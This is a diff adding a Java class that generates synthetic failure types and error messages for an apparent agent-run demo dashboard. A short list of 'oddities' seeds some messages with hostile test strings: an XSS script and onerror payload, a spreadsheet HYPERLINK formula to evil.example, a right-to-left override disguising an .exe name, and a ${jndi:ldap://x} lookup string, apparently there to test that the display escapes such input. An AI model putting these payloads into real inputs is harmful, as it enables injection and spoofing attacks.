@@ -1,0 +1,100 @@
+package dev.runboard.demo;
+
+import java.util.List;
+
+/** The ways in which the demo's runs go wrong, and what they say then. */
+final class Failures {
+
+    static final Failure CONCURRENCY =
+            new Failure("concurrency_limit_reached", "The deployment already runs as many sessions as it may.");
+    private static final String TIMEOUT = "timeout_error";
+
+    /** One type of error, whether a session comes to be before it strikes, and its messages. */
+    private record Kind(String type, boolean startsFirst, List<String> messages) {}
+
+    private static final List<Kind> KINDS = List.of(
+            new Kind(
+                    "tool_execution_error",
+                    true,
+                    List.of(
+                            "Tool bash exited with code {n}: npm ERR! missing script: verify",
+                            "Tool read_file failed: /workspace/src/app/page-{n}.tsx: no such file or directory",
+                            trace("ToolTimeout: search answered nothing for {n} s", "tools/search.py", "agent/loop.py"),
+                            trace("KeyError: 'pull_request_{n}'", "tools/github.py", "agent/dispatch.py"))),
+            new Kind(
+                    "model_overloaded",
+                    true,
+                    List.of(
+                            "The model is overloaded. Gave up after {n} attempts.",
+                            "The model is overloaded (queue position {n}). Please try again later.")),
+            new Kind(TIMEOUT, true, List.of("The session did not finish within the deployment's time limit.")),
+            new Kind(
+                    "mcp_connection_failed",
+                    true,
+                    List.of(
+                            "MCP server \"tracker\" closed the connection: read ECONNRESET (request {n})",
+                            "MCP server \"metrics\" did not answer the handshake within {n} s")),
+            new Kind(
+                    "session_rate_limited_error",
+                    false,
+                    List.of("Too many sessions were created. Try again in {n} seconds.")),
+            new Kind(
+                    "mcp_egress_blocked_error",
+                    false,
+                    List.of("The environment's network policy blocks mcp-{n}.internal.example:8443.")),
+            new Kind(
+                    "session_creation_rejected_error",
+                    false,
+                    List.of("initial_events.0.content: template variable \"sprint_{n}\" has no value")),
+            new Kind(
+                    "unknown_error",
+                    true,
+                    List.of("Something went wrong. Reference {n}.", "unexpected end of stream after {n} events")));
+
+    private static final List<String> ODDITIES = List.of(
+            "Could not parse the page's title: <script>alert(1)</script><img src=x onerror=alert({n})>",
+            "=HYPERLINK(\"https://evil.example/?row={n}\",\"click here\") is not a number",
+            "Dateiname ungültig: „Übersicht № {n} — 概要.md“ 🚧 (\u202efdp.exe\u202c)",
+            "{n} rows were read, then: \"quoted\", 'single', back\\slash, tab\there, & <b>bold</b> ${jndi:ldap://x}");
+
+    private Failures() {}
+
+    static boolean startsFirst(Tick tick) {
+        return tick.deployment().standing().cause() == null && kind(tick).startsFirst();
+    }
+
+    static boolean timesOut(Tick tick) {
+        return kind(tick).type().equals(TIMEOUT);
+    }
+
+    static Failure of(Tick tick) {
+        Failure cause = tick.deployment().standing().cause();
+        return cause != null ? cause : new Failure(kind(tick).type(), message(tick));
+    }
+
+    private static Kind kind(Tick tick) {
+        return KINDS.get(Mix.below(KINDS.size(), tick.trouble()));
+    }
+
+    private static String message(Tick tick) {
+        long hash = Mix.of(tick.hash(), 4);
+        List<String> messages = (hash >>> 50 & 31) == 0 ? ODDITIES : kind(tick).messages();
+        return messages.get(Mix.below(messages.size(), hash)).replace("{n}", Long.toString(2 + (hash >>> 8) % 98));
+    }
+
+    private static String trace(String error, String inner, String outer) {
+        StringBuilder text = new StringBuilder("Traceback (most recent call last):\n");
+        for (int depth = 1; depth <= 14; depth++) {
+            text.append("  File \"/opt/agent/").append(depth < 14 ? outer : inner);
+            text.append("\", line ")
+                    .append(depth * 37)
+                    .append(", in step_")
+                    .append(depth)
+                    .append('\n');
+            text.append("    return await self._call(context, deadline=deadline, depth=")
+                    .append(depth)
+                    .append(")\n");
+        }
+        return text.append(error).toString();
+    }
+}
